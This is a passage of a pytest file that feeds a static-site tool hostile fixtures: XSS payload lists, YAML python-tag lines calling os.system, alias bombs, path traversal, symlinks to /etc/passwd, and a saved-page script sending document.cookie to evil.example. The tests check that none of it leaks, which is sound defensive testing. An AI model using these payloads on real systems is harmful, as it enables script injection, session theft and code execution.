"""Hostile and broken input, end to end: nothing leaks, nothing hangs, nothing is lost.

One project holds the two real sample articles next to one hostile fixture per
case (markup and script in every field, YAML tags and alias bombs, path
traversal, symlinks out of the project, binary and mis-encoded files, a named
pipe, pathological Markdown, a hand-edited briefing with hostile values...).
The real ``briefgen build`` runs on it once, in a subprocess with a timeout, and
every test below inspects that one build: the output must carry no markup or
script from content, nothing may be written outside the project, every bad
file must be named in a warning, the good articles' figures must survive and
``content/articles/`` must be left byte for byte as it was.

Hypothesis property tests then feed random text, front matter and YAML to the
ingest readers, the safe YAML loader and the briefing file loader: they may
refuse input, but only with briefgen's own errors, and never hang.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from briefgen import briefing, ingest
from briefgen.config import Project
from briefgen.diagnostics import BriefgenError, Problem
from briefgen.safeyaml import load_yaml

REPO = Path(__file__).resolve().parents[1]
SEED_ARTICLES = REPO / "content" / "articles"
#: Seconds the whole hostile build may take; the build itself must be bounded.
BUILD_TIMEOUT = 150
#: A word no real article holds: payloads carry it so a leak is easy to spot.
TOKEN = "zqxcanary"
SITE_URL = "https://example.org/desk/"
#: Jinja2 would print this number for "{{ 12345 * 11 }}" if article text were a template.
TEMPLATE_RESULT = str(12345 * 11)

#: Every trick to get markup or script into a page, in one line.
XSS_PAYLOADS = [
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">entity</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="data:text/css,body{}">',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    "{{ 12345 * 11 }} {% raw %} {{ config }} ${7*7}",
]
XSS = " ".join(XSS_PAYLOADS)
MARKDOWN_LINKS = (
    "[click me](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) "
    "[vb](vbscript:msgbox(1)) [ent](jav&#x61;script:alert(1)) [pct](%6Aavascript:alert(1)) "
    "<javascript:alert(1)> ![img](javascript:alert(1)) [ref][evil]\n\n[evil]: javascript:alert(1)\n"
)
NEWS = ("At least 12 people were killed and 30 were injured in shelling near the front line "
        "on Tuesday, local officials said. Residents fled the area as the fighting continued "
        "through the night, according to the regional authorities.")


# ---------------------------------------------------------------------------
# The hostile project
# ---------------------------------------------------------------------------

def _front(fields: str, body: str = NEWS) -> str:
    return f"---\n{fields.strip()}\n---\n\n{body}\n"


def _write(path: Path, data: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)


def hostile_articles(canary_dir: Path) -> dict[str, str | bytes]:
    """Article files by name: the bad, the ugly and the merely unusual."""
    python_tag_canary = canary_dir / f"pwned-python-tag-{TOKEN}"
    deep = "".join(f"{'  ' * level}- level {level}\n" for level in range(400))
    return {
        # Markup and script in titles and bodies
        "xss-title.txt": f"Hostile title {XSS} shelling kills 12\n\n{NEWS}\n\n{XSS}\n",
        "xss-body.txt": f"Shelling kills 12 near the front line\n\n{NEWS}\n\n"
                        f"Witnesses said {XSS} the shelling stopped at dawn.\n",
        "template.txt": "Officials count {{ 12345 * 11 }} displaced {% if true %}x{% endif %}\n\n"
                        f"{NEWS} The count was {{{{ 12345 * 11 }}}} {{% for x in y %}}.\n",
        # Markup, script and bad URLs in every front matter field
        "xss-front-matter.md": _front(f"""
title: {json.dumps(XSS + " shelling kills 14")}
source: {json.dumps("<iframe src=javascript:alert(1)></iframe>Evil Times " + XSS)}
url: "javascript:alert(1)"
author: {json.dumps("<style>*{{}}</style><b onmouseover=alert(1)>Reporter</b>")}
published: "<script>alert(1)</script>"
""", NEWS + "\n\n" + XSS),
        "data-url.md": _front("""
title: A data URL as the article address
url: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
"""),
        "vbscript-url.md": _front("""
title: A vbscript URL as the article address
url: "vbscript:msgbox(1)"
"""),
        "quote-breaking-url.md": _front("""
title: A URL that tries to break out of its attribute
url: "https://example.org/a'onmouseover='alert(1)'"
source: "Example ' onmouseover='alert(1)"
"""),
        "tag-url.md": _front("""
title: A URL holding a script tag
url: "https://example.org/\\"><script>alert(1)</script>"
"""),
        # A saved web page full of scripts and handlers
        "saved-page.html": """<!DOCTYPE html>
<html><head>
<title>Saved page: shelling kills 15 &lt;script&gt;alert(1)&lt;/script&gt;</title>
<meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt; shelling kills 15">
<meta property="og:url" content="javascript:alert(1)">
<meta property="og:site_name" content="&lt;script&gt;alert('site')&lt;/script&gt;">
<meta name="author" content="&lt;iframe src=javascript:alert(1)&gt;">
<meta name="date" content="2020-09-29">
<style>body { background: url("javascript:alert(1)") }</style>
<script>document.location = "https://evil.example/?c=" + document.cookie;</script>
</head>
<body onload="alert(1)">
<article>
<h1 onclick="alert(1)">Saved page: shelling kills 15</h1>
<p onmouseover="alert(1)">At least 15 people were killed and 40 injured in shelling near the
front line on Wednesday, local officials said.</p>
<script>alert("inline")</script>
<iframe src="https://evil.example/frame"></iframe>
<p>Residents fled the area as the fighting continued, <a href="javascript:alert(1)">officials</a>
said. <img src=x onerror="alert(1)"> The regional authorities said the shelling stopped at dawn.</p>
<noscript><img src="https://evil.example/pixel"></noscript>
<object data="data:text/html,hi"></object><embed src="javascript:alert(1)">
<svg onload="alert(1)"><script>alert(2)</script></svg>
</article>
</body></html>
""",
        "tag-soup.html": "<html><body>" + "<b>x</b>" * 40_000 + "</body></html>",
        "deep-divs.html": "<html><head><title>Deep</title></head><body>" + "<div>" * 20_000
                          + f"<p>{NEWS}</p>" + "</div>" * 20_000 + "</body></html>",
        # Markdown with raw HTML and script links
        "markdown-raw.md": _front("title: Markdown with raw HTML and script links",
                                  f"{NEWS}\n\n<div onclick=\"alert(1)\">\n<script>alert(1)</script>\n</div>\n\n"
                                  f"{MARKDOWN_LINKS}\n\n<iframe src=\"javascript:alert(1)\"></iframe>\n"),
        # YAML attacks in front matter
        "python-tag.md": _front(f"""
title: !!python/object/apply:os.system ["touch {python_tag_canary}"]
source: !!python/name:os.system
"""),
        "python-tag-body.md": _front(f"""
title: "A Python object in a field"
author: !!python/object/new:os.system ["touch {python_tag_canary}"]
"""),
        "alias-bomb.md": _front("""
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
title: *g
"""),
        "invalid-yaml.md": _front("title: [unclosed\nsource: {also: unclosed"),
        "not-a-mapping.md": _front("- just\n- a list"),
        "duplicate-keys.md": _front("title: First title\ntitle: Second title"),
        "title-list.md": _front("title: [1, 2, {a: b}]"),
        # Path traversal in front matter (ids come from paths only)
        "traversal.md": _front(f"""
title: Path traversal in front matter
id: "../../../../pwned-id-{TOKEN}"
slug: "../../../../pwned-slug-{TOKEN}"
path: "/etc/passwd"
"""),
        # Encodings, line ends, empty and odd files
        "cp1252.txt": ("Caf\u00e9 shelling: \u201ctwelve killed\u201d \u2014 officials\n\n"
                       + NEWS.replace("said", "said \u2018today\u2019") + "\n").encode("cp1252"),
        "latin1.txt": b"Ma\xefs fields shelled\x81 at dawn\n\n" + NEWS.encode("ascii") + b" \x8d\x8f\x90\x9d\n",
        "bom.txt": "\ufeffByte order mark before the title\n\n" + NEWS + "\n",
        "utf16.txt": ("Sixteen-bit text about the shelling\n\n" + NEWS + "\n").encode("utf-16"),
        "crlf.md": _front("title: Windows line ends\r\nsource: CRLF Times").replace("\n", "\r\n"),
        "bare-cr.txt": ("Old Mac line ends\r\r" + NEWS + "\r").encode("ascii"),
        "empty.txt": b"",
        "whitespace.md": b"  \n\n\t \r\n",
        "front-matter-only.md": "---\ntitle: Front matter and nothing else\n---\n",
        "unclosed-front-matter.md": "---\ntitle: The fence never closes\n\n" + NEWS + "\n",
        "bad-date.md": _front("title: An impossible date\npublished: 2020-02-31"),
        "bad-date-words.md": _front("title: A date in words\npublished: last Tuesday"),
        "bad-date-huge.md": _front("title: A date far away\npublished: 99999-12-31"),
        # Binary files
        "binary.txt": bytes(range(256)) * 8,
        "binary.html": b"<html><body><p>text\x00\x00\x00</p></body></html>",
        "image.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
        "controls.txt": b"Control characters\n" + b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f" * 20,
        "nul-inside.md": _front("title: A NUL byte inside", NEWS + "\x00" + NEWS).encode("utf-8"),
        # Resource exhaustion
        "long-line.txt": "One enormous line\n\n" + ("The shelling went on. " * 140_000) + "\n",
        "oversize.txt": "Over the size limit\n\n" + "x" * (ingest.MAX_FILE_BYTES + 10),
        "brackets.md": _front("title: A hundred thousand brackets", NEWS + "\n\n" + "[" * 100_000 + "\n"),
        "brackets-links.md": _front("title: Brackets and parentheses",
                                    NEWS + "\n\n" + "[a](" * 30_000 + "\n\n" + "![" * 30_000 + "\n"),
        "nested-lists.md": _front("title: Deeply nested lists and quotes",
                                  NEWS + "\n\n" + deep + "\n" + "> " * 5_000 + "deep quote\n\n"
                                  + "- " * 5_000 + "deep item\n"),
        "huge-numbers.txt": "Huge numbers in the report\n\n"
                            f"Officials said {'9' * 300} people were killed in the shelling. "
                            "Another 1e308 were injured and 10**10000 displaced, officials said. "
                            f"At least {'1' * 90},000 people were arrested, police said. "
                            f"The toll stood at {'1,' * 80}000 missing.\n\n{NEWS}\n",
        # Bidirectional overrides and invisible characters
        "rtl-zero-width.txt": "Shel\u200bling \u202ekills\u202c 12 \u2066isolate\u2069 \u200f\u061c\n\n"
                              + NEWS.replace("killed", "kil\u200dled\u2060") + " \u202eevil\u202c.\n",
        # A file whose name is itself markup (ids come from file names)
        f"\"><svg onload=alert('{TOKEN}')>.txt": "A file named like markup\n\n" + NEWS + "\n",
        # Not articles at all: passed over quietly
        "README.md": "# Notes\n\nNot an article.\n",
        ".hidden.md": _front("title: Hidden file"),
        "notes.docx": b"PK\x03\x04 not an article",
    }


@dataclass
class HostileBuild:
    """The one hostile build every test inspects."""

    parent: Path  # the folder around the project: must not change
    project: Path
    outside: Path  # files the project's symlinks point to
    result: subprocess.CompletedProcess
    seconds: float
    articles_before: dict[str, str]
    articles_after: dict[str, str]
    parent_before: dict[str, str]
    parent_after: dict[str, str]

    @property
    def site(self) -> Path:
        return self.project / "site"

    @property
    def warnings(self) -> list[str]:
        return [line for line in self.result.stderr.splitlines() if line.startswith("warning: ")]


def tree_state(root: Path, skip: Path | None = None) -> dict[str, str]:
    """Every entry under ``root`` (not following links): its kind and its bytes' hash."""
    state: dict[str, str] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        here = Path(folder)
        if skip is not None and (here == skip or skip in here.parents):
            dirs[:] = []
            continue
        dirs.sort()
        for name in sorted(dirs + files):
            path = here / name
            rel = path.relative_to(root).as_posix()
            info = path.lstat()
            if stat.S_ISLNK(info.st_mode):
                state[rel] = "link:" + os.readlink(path)
            elif stat.S_ISDIR(info.st_mode):
                state[rel] = "dir"
            elif stat.S_ISREG(info.st_mode):
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                state[rel] = f"file:{digest}:{info.st_mode & 0o7777:o}:{info.st_mtime_ns}"
            else:
                state[rel] = f"special:{stat.S_IFMT(info.st_mode)}"
    return state


TAG_BREAKING_URL = 'https://evil.example/"><script>alert(1)</script>'


def hostile_briefing_yaml() -> str:
    """A briefing an editor wrote by hand, with hostile values in every text field."""
    script = f'<script>alert("notes-{TOKEN}")</script>'
    return f"""\
title: {json.dumps("Editor briefing " + XSS)}
notes: {json.dumps(script + " " + XSS + " " + MARKDOWN_LINKS + "> " * 300 + "quote " + "[" * 100_000)}
summary:
  - text: {json.dumps("Summary " + XSS + " " + MARKDOWN_LINKS)}
    sources: [evil-source]
  - text: {json.dumps("[a](javascript:alert(1)) [b](//evil.example/x) [c](/root-relative) [d](data:x)")}
    sources: [evil-source]
background:
  - text: {json.dumps("Background " + XSS + " " + "- " * 2000 + "item")}
    sources: [evil-source]
figures:
  - kind: killed
    value: {10 ** 40}
    group: {json.dumps("<img src=x onerror=alert(1)>")}
    reported_by: {json.dumps("<script>alert(1)</script>")}
    source: evil-source
    quote: {json.dumps(XSS)}
    note: {json.dumps(XSS)}
claims:
  - who: {json.dumps("<b onmouseover=alert(1)>Ministry</b>")}
    what: {json.dumps(XSS)}
    source: evil-source
timeline:
  - date: 2020-09-28
    when: {json.dumps("<i onclick=alert(1)>dawn</i>")}
    text: {json.dumps(XSS)}
    source: evil-source
actors:
  - name: {json.dumps("<script>alert('actor')</script>Evil Army")}
    kind: {json.dumps("<img src=x onerror=alert(1)>")}
places:
  - name: {json.dumps("<iframe src=javascript:alert(1)>Evilville")}
sources:
  - key: evil-source
    title: {json.dumps("Source " + XSS)}
    publisher: {json.dumps("<img src=x onerror=alert(1)> Evil Times")}
    url: {json.dumps(TAG_BREAKING_URL)}
    author: {json.dumps("<style>*{{}}</style>Author")}
    published: 2020-09-28
  - key: quote-breaker
    title: A URL that breaks out of its quotes
    url: "https://evil.example/a'onmouseover='alert(1)'"
"""


def make_hostile_project(parent: Path) -> tuple[Path, Path]:
    """Write the hostile project under ``parent``; returns (project, outside folder)."""
    project = parent / "nest" / "desk"
    articles = project / "content" / "articles"
    articles.mkdir(parents=True)
    for seed in sorted(SEED_ARTICLES.glob("*.txt")):
        shutil.copyfile(seed, articles / seed.name)
    for name, data in hostile_articles(parent).items():
        _write(articles / name, data)
    # Nested folders: ids become "sub/..."; the nested one is still an article.
    _write(articles / "sub" / "nested.md", _front("title: A nested article about the shelling"))

    outside = parent / "outside"
    secret = (f"Secret {TOKEN} outside the project\n\nThe secret {TOKEN} file must never be read: "
              "at least 77 people were killed, officials said.\n")
    _write(outside / "secret.txt", secret)
    _write(outside / "secret-folder" / "article.txt", secret)
    _write(outside / "secret-briefing.yaml", f"title: Secret briefing {TOKEN}\n")
    os.symlink(outside / "secret.txt", articles / "link-to-secret.txt")
    os.symlink(outside / "secret-folder", articles / "linked-folder")
    os.symlink("/etc/passwd", articles / "link-to-passwd.txt")
    os.symlink("does-not-exist.txt", articles / "dangling-link.txt")
    os.symlink("sub", articles / "link-to-own-folder")
    os.mkfifo(articles / "named-pipe.txt")

    briefings = project / "content" / "briefings"
    _write(briefings / "hostile-editor-briefing.yaml", hostile_briefing_yaml())
    _write(project / "content" / "about.md",
           f"# About\n\n{XSS}\n\n{MARKDOWN_LINKS}\n\n<script>alert('about')</script>\n")
    _write(project / "briefgen.yaml",
           f"title: {json.dumps('Desk ' + XSS)}\ndescription: {json.dumps('<script>alert(1)</script>')}\n"
           f"site_url: {SITE_URL}\n")
    return project, outside


#: Files that must each be named in a warning (path relative to content/articles/).
MUST_WARN = [
    "xss-front-matter.md",  # javascript: URL, bad date
    "data-url.md", "vbscript-url.md", "tag-url.md",
    "python-tag.md", "python-tag-body.md", "alias-bomb.md", "invalid-yaml.md",
    "not-a-mapping.md", "title-list.md",
    "cp1252.txt", "latin1.txt",
    "empty.txt", "whitespace.md", "front-matter-only.md", "unclosed-front-matter.md",
    "bad-date.md", "bad-date-words.md", "bad-date-huge.md",
    "binary.txt", "binary.html", "image.md", "controls.txt", "nul-inside.md",
    "long-line.txt", "oversize.txt", "brackets.md", "tag-soup.html", "deep-divs.html",
    "link-to-secret.txt", "linked-folder", "link-to-passwd.txt", "dangling-link.txt",
    "link-to-own-folder", "named-pipe.txt",
]
#: Unusual but good files: they must become articles.
MUST_READ = ["xss-title", "xss-body", "template", "xss-front-matter", "quote-breaking-url",
             "saved-page", "markdown-raw", "traversal", "cp1252", "latin1", "bom", "utf16",
             "crlf", "bare-cr", "rtl-zero-width", "sub/nested", "huge-numbers", "nested-lists"]


def run_briefgen(project: Path, *args: str, timeout: float = BUILD_TIMEOUT) -> subprocess.CompletedProcess:
    """The real command line, in a fresh process, without BRIEFGEN_* settings from outside."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("BRIEFGEN_")}
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO), env.get("PYTHONPATH")]))
    return subprocess.run([sys.executable, "-m", "briefgen.cli", *args, "--project", str(project)],
                          cwd=project, env=env, capture_output=True, text=True, timeout=timeout,
                          check=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileBuild:
    parent = tmp_path_factory.mktemp("hostile")
    project, outside = make_hostile_project(parent)
    articles = project / "content" / "articles"
    articles_before = tree_state(articles)
    parent_before = tree_state(parent, skip=project)
    started = time.monotonic()
    try:
        result = run_briefgen(project, "build", "--strict")
    except subprocess.TimeoutExpired as exc:
        pytest.fail(f"the hostile build did not finish within {BUILD_TIMEOUT}s: {exc.stderr!r}"[:2000])
    seconds = time.monotonic() - started
    return HostileBuild(parent, project, outside, result, seconds, articles_before,
                        tree_state(articles), parent_before, tree_state(parent, skip=project))


# ---------------------------------------------------------------------------
# The build completes, fails --strict, stays bounded
# ---------------------------------------------------------------------------

def test_build_completes_in_time_and_strict_fails(hostile: HostileBuild) -> None:
    detail = f"stdout:\n{hostile.result.stdout[-3000:]}\nstderr:\n{hostile.result.stderr[-3000:]}"
    assert "Traceback" not in hostile.result.stderr, detail
    assert hostile.result.returncode == 1, detail  # warnings under --strict
    assert "warning(s) with --strict" in hostile.result.stderr, detail
    assert hostile.seconds < BUILD_TIMEOUT
    assert (hostile.site / "index.html").is_file(), detail
    assert (hostile.site / "briefings.json").is_file(), detail


def test_every_bad_file_is_named_in_a_warning(hostile: HostileBuild) -> None:
    warned = "\n".join(hostile.warnings)
    missing = [name for name in MUST_WARN if f"content/articles/{name}" not in warned]
    assert not missing, f"no warning names {missing}; warnings were:\n{warned}"


def test_warnings_locate_yaml_errors(hostile: HostileBuild) -> None:
    """A front matter error names the file and its line (and column when YAML knows it)."""
    by_file = {name: [w for w in hostile.warnings if f"content/articles/{name}:" in w]
               for name in ("python-tag.md", "alias-bomb.md", "invalid-yaml.md", "unclosed-front-matter.md")}
    for name, lines in by_file.items():
        assert lines, f"{name} has no located warning: {hostile.warnings}"
        assert any(line.split(f"content/articles/{name}:", 1)[1].split(":", 1)[0].isdigit()
                   for line in lines), lines


def test_unusual_but_good_files_are_read(hostile: HostileBuild) -> None:
    export = json.loads((hostile.site / "briefings.json").read_text(encoding="utf-8"))
    listed = {article for b in export["briefings"] for article in b["articles"]}
    missing = [article for article in MUST_READ if article not in listed]
    assert not missing, f"articles missing from every briefing: {missing}"
    never = {"link-to-secret", "link-to-passwd", "dangling-link", "named-pipe", "linked-folder/article",
             "link-to-own-folder/nested", "empty", "binary", "python-tag", "alias-bomb", "oversize"}
    assert not never & listed, never & listed


def test_good_articles_still_make_their_figures(hostile: HostileBuild) -> None:
    export = json.loads((hostile.site / "briefings.json").read_text(encoding="utf-8"))
    seeds = {p.stem for p in SEED_ARTICLES.glob("*.txt")}
    seed_values = {f["value"] for b in export["briefings"] for f in b["figures"] if f["article"] in seeds}
    assert {58, 84} <= seed_values, seed_values


def test_content_articles_unchanged(hostile: HostileBuild) -> None:
    assert hostile.articles_after == hostile.articles_before


def test_nothing_written_outside_the_project(hostile: HostileBuild) -> None:
    assert hostile.parent_after == hostile.parent_before
    leaks = [p for p in hostile.parent.rglob("pwned-*")]
    assert not leaks, leaks
    for root in (Path("/tmp"), Path("/"), hostile.parent.parent):
        assert not list(root.glob(f"pwned-*-{TOKEN}")), root


def test_project_changes_only_in_output_folders(hostile: HostileBuild) -> None:
    """A build writes site/, its cache and briefing files; nothing else in the project."""
    allowed = ("site", ".briefgen", "content/briefings")
    for path in hostile.project.rglob("*"):
        rel = path.relative_to(hostile.project).as_posix()
        if rel.startswith(("content/articles", "content/about.md", "briefgen.yaml")):
            continue
        assert rel.startswith(allowed) or rel in ("content",), rel


def test_no_secret_from_outside_reaches_any_output(hostile: HostileBuild) -> None:
    for path in _output_files(hostile):
        for text in _texts_of(path):
            assert f"secret {TOKEN}" not in text.lower(), path
            assert "root:x:0:0" not in text, path


def test_briefing_files_written_from_hostile_text_read_back_cleanly(hostile: HostileBuild) -> None:
    """The machine wrote hostile titles and quotes into content/briefings/: the next build can read them."""
    written = sorted((hostile.project / "content" / "briefings").glob("*.yaml"))
    assert len(written) > 5
    assert briefing.check(Project(hostile.project)) == []


def test_article_text_is_never_a_template(hostile: HostileBuild) -> None:
    for path in _output_files(hostile):
        for text in _texts_of(path):
            assert TEMPLATE_RESULT not in text, path


# ---------------------------------------------------------------------------
# No markup or script from content in any output file
# ---------------------------------------------------------------------------

#: Elements content must never introduce (the theme uses none of them).
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "style", "foreignobject",
                  "animate", "set", "use", "image", "img", "audio", "video", "source", "track",
                  "portal", "math", "mglyph", "xmp", "plaintext", "listing", "noembed", "param"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "background", "cite",
                  "xlink:href", "srcset", "ping", "longdesc", "manifest", "codebase", "icon"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "file:", "blob:", "filesystem:")


def _scheme_of(value: str) -> str:
    """The URL scheme as a browser reads it: control characters and spaces are ignored."""
    squeezed = "".join(ch for ch in value if ord(ch) > 32 and ch not in "\u00a0\u2028\u2029").lower()
    return squeezed


class _PageScan(HTMLParser):
    """Collects everything in a page that could run script or pull in content."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str | None] = []  # src of each <script>, None when inline
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = tag.lower()
        values = {name.lower(): value or "" for name, value in attrs}
        if tag == "script":
            self.scripts.append(values.get("src"))
            self.in_script = True
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name in ("style", "srcdoc"):
                self.problems.append(f"<{tag} {name}=...> attribute")
            if name in URL_ATTRIBUTES and _scheme_of(value).startswith(BAD_SCHEMES):
                self.problems.append(f"<{tag} {name}={value[:60]!r}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            target = values.get("content", "").split("url=", 1)[-1]
            if _scheme_of(target).startswith(BAD_SCHEMES) or urlsplit(target.strip()).netloc:
                self.problems.append(f"meta refresh to {target[:60]!r}")
        if tag == "base" and values.get("href") != SITE_URL:
            self.problems.append(f"<base href={values.get('href')!r}>")
        if tag == "form" and values.get("action", "") not in ("search.html", ""):
            self.problems.append(f"<form action={values.get('action')!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag.lower() == "script":
            self.in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag.lower() == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data.strip()[:60]!r}")

    def handle_comment(self, data: str) -> None:
        if "<" in data or "script" in data.lower():
            self.problems.append(f"comment holding markup: {data[:60]!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration: {data[:60]!r}")


def _output_files(hostile: HostileBuild) -> list[Path]:
    return sorted(p for p in hostile.site.rglob("*") if p.is_file())


def _texts_of(path: Path) -> list[str]:
    """A file's text; Pagefind's fragments, metadata and index are gzip-compressed."""
    data = path.read_bytes()
    if data[:2] == b"\x1f\x8b":
        try:
            data = gzip.decompress(data)
        except (OSError, EOFError):
            pass
    return [data.decode("utf-8", "replace")]


def test_html_pages_carry_no_content_markup_or_script(hostile: HostileBuild) -> None:
    site = hostile.site.resolve()
    theme_scripts = {site / "static" / "search.js"}
    pages = sorted(hostile.site.rglob("*.html"))
    assert len(pages) > 10
    problems: list[str] = []
    for page in pages:
        rel = page.relative_to(hostile.site).as_posix()
        raw = page.read_text(encoding="utf-8")
        scan = _PageScan()
        scan.feed(raw)
        scan.close()
        problems += [f"{rel}: {p}" for p in scan.problems]
        for src in scan.scripts:
            if src is None:
                continue
            target = Path(os.path.normpath(page.parent.resolve() / src.split("?")[0]))
            in_pagefind = (site / "pagefind") in target.parents
            if target not in theme_scripts and not in_pagefind or not target.is_file():
                problems.append(f"{rel}: script from {src!r} is not the theme's or Pagefind's")
        # The raw bytes agree with the parse: no tag the lenient parser might have missed.
        lowered = raw.lower()
        if lowered.count("<script") != len(scan.scripts):
            problems.append(f"{rel}: '<script' appears outside the theme's script tags")
        for tag in ("<iframe", "<style", "<object", "<embed", "<img", "<svg onload", "<math"):
            if tag in lowered:
                problems.append(f"{rel}: raw {tag}")
    assert not problems, "\n".join(problems[:50])


def test_hostile_text_reaches_the_pages_as_text(hostile: HostileBuild) -> None:
    """The scan is not vacuous: hostile values are on the pages, escaped."""
    pages = "\n".join(p.read_text(encoding="utf-8") for p in sorted(hostile.site.rglob("*.html")))
    assert f"alert(&#34;notes-{TOKEN}&#34;)" in pages or f"alert(&quot;notes-{TOKEN}&quot;)" in pages
    assert "&lt;script&gt;" in pages
    assert "Evil Army" in pages and "Evilville" in pages
    assert "A file named like markup" in pages


def test_links_from_content_are_http_or_relative(hostile: HostileBuild) -> None:
    """Every link leaves the site only over http(s) and never hides a host (//host)."""
    class Links(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.urls: list[str] = []

        def handle_starttag(self, tag, attrs):
            self.urls += [v or "" for k, v in attrs if k in URL_ATTRIBUTES]

    bad = []
    for page in sorted(hostile.site.rglob("*.html")):
        parser = Links()
        parser.feed(page.read_text(encoding="utf-8"))
        for url in parser.urls:
            parts = urlsplit(url.strip())
            if parts.scheme:
                if parts.scheme.lower() not in ("http", "https"):
                    bad.append((page.name, url))
            elif url.strip().startswith(("//", "\\")):
                bad.append((page.name, url))
            elif not parts.scheme:
                resolved = urljoin("https://h/desk/" + page.relative_to(hostile.site).as_posix(), url)
                if not resolved.startswith("https://h/desk/"):
                    bad.append((page.name, url))
    assert not bad, bad[:20]


def test_briefings_json_carries_only_escaped_text(hostile: HostileBuild) -> None:
    raw = (hostile.site / "briefings.json").read_text(encoding="utf-8")
    assert "<" not in raw and ">" not in raw, "markup characters must be \\u-escaped"
    export = json.loads(raw)
    assert export["version"] >= 1

    def walk(value, key=""):
        if isinstance(value, dict):
            for k, v in value.items():
                yield from walk(v, k)
        elif isinstance(value, list):
            for v in value:
                yield from walk(v, key)
        else:
            yield key, value

    for key, value in walk(export):
        if key == "url" and isinstance(value, str):
            scheme = urlsplit(value).scheme.lower()
            assert scheme in ("", "http", "https"), value
            assert not value.startswith("//") and ".." not in value.split("/"), value


def test_feed_and_sitemap_carry_only_escaped_text(hostile: HostileBuild) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    feed_path = hostile.site / "feed.xml"
    assert feed_path.is_file(), "site_url is set and the sample articles are dated: a feed is expected"
    root = ET.parse(feed_path).getroot()
    for element in root.iter():
        assert element.tag.startswith(atom), element.tag  # no element smuggled in from content
        assert element.get("type") in (None, "text", "application/atom+xml", "text/html"), element.attrib
        if element.tag == atom + "link":
            assert element.get("href", "").startswith(SITE_URL), element.attrib
    sitemap = ET.parse(hostile.site / "sitemap.xml").getroot()
    for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
        assert loc.text and loc.text.startswith(SITE_URL) and ".." not in loc.text, loc.text
        assert "<" not in loc.text and '"' not in loc.text


def test_no_output_file_holds_raw_markup_from_content(hostile: HostileBuild) -> None:
    """Every output file, Pagefind's compressed index included."""
    needles = ("<script", "<iframe", "<style", "<img", "<svg onload", "<object", "<embed", "<math",
               "<b onmouseover", "<body onload")
    theme_markup = ("<a href", "<base", "<meta http-equiv", "<form", "<link rel")  # fine in pages only
    problems = []
    for path in _output_files(hostile):
        rel = path.relative_to(hostile.site).as_posix()
        if rel.startswith(("static/", "pagefind/")):
            # The theme's and Pagefind's own code, and Pagefind's index: page text stored as
            # data, which Pagefind escapes when it builds an excerpt and the theme's
            # search.js shows only as text nodes (test_theme_search_script_...).
            continue
        for text in _texts_of(path):
            lowered = text.lower()
            if path.suffix == ".html":
                lowered = lowered.replace('<script type="module" src="static/search.js">', "")
                lowered = lowered.replace('<script type="module" src="../static/search.js">', "")
            found = [n for n in needles if n in lowered]
            if path.suffix not in (".html", ".xml"):
                found += [n for n in theme_markup if n in lowered]
            if found:
